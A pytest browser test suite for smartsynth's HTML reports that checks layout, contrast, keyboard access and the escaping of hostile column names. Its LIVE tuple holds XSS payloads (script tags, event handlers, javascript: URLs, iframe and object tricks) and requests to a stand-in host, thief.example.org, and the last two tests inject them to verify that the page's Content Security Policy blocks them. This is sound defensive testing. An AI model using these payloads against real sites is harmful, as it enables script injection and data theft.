"""The report in a real browser: light and dark, on a desk and on a telephone, with hostile names."""

from pathlib import Path

import pytest
import report_examples as examples
from chromium import NEEDS_CHROMIUM

from smartsynth.report import html
from smartsynth.utils.visualizer import charts, profile_charts

pytestmark = NEEDS_CHROMIUM
PAGES = ("report", "hostile", "wide", "nothing", "profile", "hostile profile")

FAULTS = (Path(__file__).parent / "faults.js").read_text("utf-8")
CONTRAST = (Path(__file__).parent / "contrast.js").read_text("utf-8")


@pytest.fixture(scope="module")
def files(tmp_path_factory):
    """Each kind of page as a file."""
    folder = tmp_path_factory.mktemp("pages")
    hostile, plain, whole = examples.profile(examples.HOSTILE), examples.profile(), examples.context()
    reports = {
        "report": (examples.evaluation(), plain, whole),
        "hostile": (examples.renamed(), hostile, {**whole, "name": examples.HOSTILE[0]}),
        "wide": (examples.wide(), plain, whole),
        "nothing": (examples.nothing(), None, {}),
    }
    texts = {n: html.render(e, charts(e), profile=p, context=c) for n, (e, p, c) in reports.items()}
    texts["profile"] = html.render_profile(plain, profile_charts(plain), name="credit_data.csv")
    texts["hostile profile"] = html.render_profile(hostile, profile_charts(hostile), name=examples.HOSTILE[1])
    for name, text in texts.items():
        (folder / f"{name}.html").write_text(text, "utf-8")
    return folder


@pytest.fixture
def opened(browser, files):
    """A function that opens a page; what the page did in secret is in its `noise`."""
    contexts = []

    def open_page(name, *, scheme="light", width=1280, unfolded=False):
        context = browser.new_context(color_scheme=scheme, viewport={"width": width, "height": 900})
        contexts.append(context)
        page = context.new_page()
        page.noise = []
        address = (files / f"{name}.html").as_uri()
        page.on(
            "request", lambda r: page.noise.append(f"request {r.url}") if r.url not in (address, "data:,") else None
        )
        page.on("console", lambda m: page.noise.append(f"console {m.text}"))
        page.on("pageerror", lambda e: page.noise.append(f"error {e}"))
        page.on("dialog", lambda d: (page.noise.append(f"dialog {d.message}"), d.dismiss()))
        page.goto(address)
        if unfolded:
            page.evaluate("document.querySelectorAll('details').forEach(d => { d.open = true; })")
        return page

    yield open_page
    for context in contexts:
        context.close()


@pytest.mark.parametrize("name", PAGES)
@pytest.mark.parametrize(("width", "scheme"), [(1280, "light"), (390, "dark")])
def test_page_is_whole(opened, name, width, scheme):
    """Nothing is clipped, overlaps, overflows its card or the window, asks the network or complains."""
    page = opened(name, scheme=scheme, width=width, unfolded=True)
    page.wait_for_timeout(50)
    assert page.noise == []
    assert page.evaluate(FAULTS) == []


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_text_can_be_read(opened, scheme):
    """Every kind of text has a contrast of at least 4.5 in light and dark, and the two differ."""
    page = opened("report", scheme=scheme, unfolded=True)
    least = page.evaluate(CONTRAST)
    assert {part: round(ratio, 2) for part, ratio in least.items() if ratio < 4.5} == {}
    background = page.evaluate("getComputedStyle(document.body).backgroundColor")
    assert (background == "rgb(246, 247, 248)") == (scheme == "light")


@pytest.mark.parametrize("name", ["hostile", "hostile profile"])
def test_hostile_names_are_text(opened, name):
    """Names that are markup or templates are read as they are and make no element."""
    page = opened(name, unfolded=True)
    shown = page.inner_text("main")
    for expected in (*examples.HOSTILE[:3], "العمر بالسنوات", "line break and turned"):
        assert expected in shown
    assert page.locator("script, img, iframe").count() == 0
    assert page.noise == []


def test_faults_are_found(opened):
    """The checks above do see clipped and overlapping texts, charts beyond their card and a page that is too wide."""
    page = opened("report")
    page.add_style_tag(content=".chart { font-size: 30px; min-width: 700px } main { width: 1500px }")
    faults = " ".join(page.evaluate(FAULTS))
    for fault in ("clipped", "overlap", "beyond its card", "beyond the window", "wide in a window"):
        assert fault in faults
    page.add_style_tag(content=".caption { color: #999 }")
    assert page.evaluate(CONTRAST)[".caption"] < 4.5


def test_charts_are_drawn(opened):
    """Each section has pictures that are seen, with synthetic lines dashed and real ones solid."""
    page = opened("report")
    for section in ("privacy", "columns", "relations", "utility"):
        assert page.locator(f"#{section} svg.chart[role=img]").first.is_visible()
    dashes = "e => getComputedStyle(e).strokeDasharray"
    assert page.locator("#columns figure .line.synthetic").first.evaluate(dashes) == "5px, 3px"
    assert page.locator("#columns figure .line.real").first.evaluate(dashes) == "none"


def test_keyboard_reaches_everything(opened):
    """The first key leads past the contents; folded parts open with the keyboard; scrolling regions take the focus."""
    page = opened("report")
    page.keyboard.press("Tab")
    assert page.evaluate("document.activeElement.textContent") == "Skip to the content"
    summary = page.locator("#privacy summary").first
    summary.focus()
    page.keyboard.press("Enter")
    assert page.locator("#privacy .scroll").first.is_visible()
    assert page.evaluate("[...document.querySelectorAll('.scroll, pre')].every(e => e.tabIndex === 0)")


def test_contents_lead_to_the_sections(opened):
    """A click in the contents brings the section to the top, below the bar that stays."""
    page = opened("report")
    page.emulate_media(reduced_motion="reduce")
    page.click("nav >> text=Utility")
    top = page.locator("#utility").evaluate("e => e.getBoundingClientRect().top")
    assert 0 <= top <= 100
    assert page.locator("nav.contents").evaluate("e => e.getBoundingClientRect().top") == 0


LIVE = (
    "<script>window.ran = 1</script>", "<img src=x onerror='window.ran = 2'>", "<svg onload='window.ran = 3'></svg>",
    "<iframe srcdoc='<script>parent.ran = 4</script>'></iframe>", "<iframe src='javascript:parent.ran = 5'></iframe>",
    "<a id=trap href='javascript:window.ran = 6'>x</a>", "<details open ontoggle='window.ran = 7'></details>",
    "<form action='https://thief.example.org' id=form><input name=q></form>", "<base href='https://thief.example.org/'>",
    "<link rel=stylesheet href='https://thief.example.org/x.css'>", "<img src='https://thief.example.org/x.png'>",
    "<object data='data:text/html,<script>parent.ran = 8</script>'></object>", "<style>body { background: url(https://thief.example.org/x) }</style>",
)  # fmt: skip


def test_markup_that_got_in_would_run_nothing(files, browser):
    """Were a name of a column ever not escaped: the page's own policy lets no script run, no form go and nothing be fetched."""
    page = (files / "hostile.html").read_text("utf-8")
    at = page.index("<main")
    at = page.index(">", at) + 1
    (files / "live.html").write_text(page[:at] + "".join(LIVE) + page[at:], "utf-8")
    opened = browser.new_page()
    asked, refused = [], []
    opened.on("request", lambda request: asked.append(request) if "thief" in request.url else None)
    opened.on("console", lambda message: refused.append(message.text))
    opened.goto((files / "live.html").as_uri())
    opened.evaluate("document.getElementById('trap').click(); document.getElementById('form').submit()")
    opened.wait_for_timeout(400)
    assert opened.url.endswith("live.html")
    assert opened.evaluate("window.ran === undefined")
    assert {request.failure for request in asked} <= {"csp"}  # the policy stopped them before they left
    assert sum("Content Security Policy" in text for text in refused) >= 8
    opened.close()


def test_without_the_policy_it_would_run(files, browser):
    """So the test above sees what it looks for."""
    page = (files / "live.html").read_text("utf-8") if (files / "live.html").exists() else "".join(LIVE)
    opened = browser.new_page()
    opened.set_content(page.replace("Content-Security-Policy", "X-None"))
    opened.wait_for_timeout(300)
    assert opened.evaluate("window.ran !== undefined")
    opened.close()
